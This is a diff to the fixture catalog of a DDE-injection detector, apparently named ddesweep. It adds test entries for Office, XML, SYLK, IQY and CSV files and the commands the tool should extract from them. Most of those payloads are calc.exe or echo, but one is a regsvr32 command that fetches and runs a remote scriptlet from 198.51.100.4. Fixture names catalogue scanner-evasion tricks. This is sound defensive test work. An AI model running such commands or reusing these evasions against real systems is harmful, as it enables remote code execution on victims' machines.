@@ -1,7 +1,7 @@
 //! The list of every fixture under `testdata/`: its path, the function that
 //! builds it and what `ddesweep` is expected to report for it.
 
-use crate::{evidence, hostile, negative, positive};
+use crate::{evasions, evidence, hostile, negative, office_xml, positive, slides};
 
 /// What the tool should report for a fixture.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -121,6 +121,111 @@ pub const CATALOG: &[Entry] = &[
         Commands(&["cmd /c calc.exe"]),
     ),
     entry(
+        "documents/positive/evasion-one-run.docx",
+        evasions::one_run,
+        Commands(&[r#"c:\windows\system32\cmd.exe "/c calc.exe""#]),
+    ),
+    entry(
+        "documents/positive/evasion-wrappers.docx",
+        evasions::wrappers,
+        Commands(&[
+            r#"cmd.exe "/c echo smartTag""#,
+            r#"cmd.exe "/c echo ins""#,
+            r#"cmd.exe "/c echo hyperlink""#,
+            r#"cmd.exe "/c echo sdt""#,
+            r#"cmd.exe "/c echo customXml""#,
+            r#"cmd.exe "/c echo spanning""#,
+        ]),
+    ),
+    entry(
+        "documents/positive/evasion-alternate-content.docx",
+        evasions::alternate_content,
+        Commands(&[
+            r#"c:\windows\system32\cmd.exe "/c calc.exe""#,
+            r#"cmd.exe "/c echo fallback""#,
+        ]),
+    ),
+    entry(
+        "documents/positive/evasion-strict.docx",
+        evasions::strict,
+        Commands(&[r#"C:\Windows\System32\cmd.exe "/c powershell -nop -c calc.exe""#]),
+    ),
+    entry(
+        "documents/positive/evasion-unterminated.docx",
+        evasions::unterminated,
+        Commands(&[r#"c:\windows\system32\cmd.exe "/c echo unterminated""#]),
+    ),
+    entry(
+        "documents/positive/evasion-quote-split.docx",
+        evasions::quote_split,
+        Commands(&[r#"cmd.exe "/c calc.exe""#]),
+    ),
+    entry(
+        "documents/positive/evasion-mixed-case.docx",
+        evasions::mixed_case,
+        Commands(&[r#"c:\windows\system32\cmd.exe "/c echo mixed""#]),
+    ),
+    entry(
+        "documents/positive/evasion-fullwidth.csv",
+        evasions::csv_fullwidth,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/positive/evasion-leading-quotes.csv",
+        evasions::csv_leading_quotes,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/positive/evasion-concat.csv",
+        evasions::csv_concat,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/positive/evasion-msexcel.csv",
+        evasions::csv_msexcel,
+        Commands(&[r"\Windows\System32\regsvr32 /s /n /u /i:http://198.51.100.4/a.sct scrobj.dll"]),
+    ),
+    entry(
+        "documents/positive/word2003.xml",
+        office_xml::word2003_dde,
+        Commands(&[r#"c:\windows\system32\cmd.exe "/k calc.exe""#]),
+    ),
+    entry(
+        "documents/positive/word2003-equation.xml",
+        office_xml::word2003_equation,
+        Detected,
+    ),
+    entry(
+        "documents/positive/flat-opc.xml",
+        office_xml::flat_opc_dde,
+        Detected,
+    ),
+    entry(
+        "documents/positive/excel2003.xml",
+        office_xml::excel2003_dde,
+        Commands(&["cmd /c calc.exe"]),
+    ),
+    entry(
+        "documents/positive/sylk-cmd.slk",
+        office_xml::sylk_dde,
+        Commands(&["CMD /C calc.exe"]),
+    ),
+    entry(
+        "documents/positive/webquery.iqy",
+        office_xml::webquery,
+        Commands(&["http://198.51.100.23/dde/2.dat"]),
+    ),
+    entry(
+        "documents/positive/slides.pptx",
+        slides::slides_dde,
+        Detected,
+    ),
+    entry(
+        "documents/positive/slides-equation.ppsx",
+        slides::slides_equation,
+        Detected,
+    ),
+    entry(
         "documents/negative/word-benign-fields.docx",
         negative::word_benign_fields,
         Clean,
@@ -138,6 +243,36 @@ pub const CATALOG: &[Entry] = &[
     entry(
         "documents/negative/csv-benign.csv",
         negative::csv_benign,
+        Clean,
+    ),
+    entry(
+        "documents/negative/evasion-number-bar.csv",
+        evasions::csv_number_bar,
+        Clean,
+    ),
+    entry(
+        "documents/negative/word2003-clean.xml",
+        office_xml::word2003_clean,
+        Clean,
+    ),
+    entry(
+        "documents/negative/flat-opc-clean.xml",
+        office_xml::flat_opc_clean,
+        Clean,
+    ),
+    entry(
+        "documents/negative/excel2003-clean.xml",
+        office_xml::excel2003_clean,
+        Clean,
+    ),
+    entry(
+        "documents/negative/sylk-clean.slk",
+        office_xml::sylk_clean,
+        Clean,
+    ),
+    entry(
+        "documents/negative/slides-clean.pptx",
+        slides::slides_clean,
         Clean,
     ),
     entry("documents/hostile/empty.docx", hostile::empty, Clean),
@@ -186,7 +321,7 @@ pub const CATALOG: &[Entry] = &[
     entry(
         "sample-evidence/C/Users/bob/Desktop/export.csv",
         evidence::contacts_export,
-        Commands(&[r"MSEXCEL \..\..\..\Windows\System32\cmd.exe /c calc.exe"]),
+        Commands(&[r"\Windows\System32\cmd.exe /c calc.exe"]),
     ),
     entry(
         "sample-evidence/C/Users/bob/Documents/Quarterly_Report.docx",
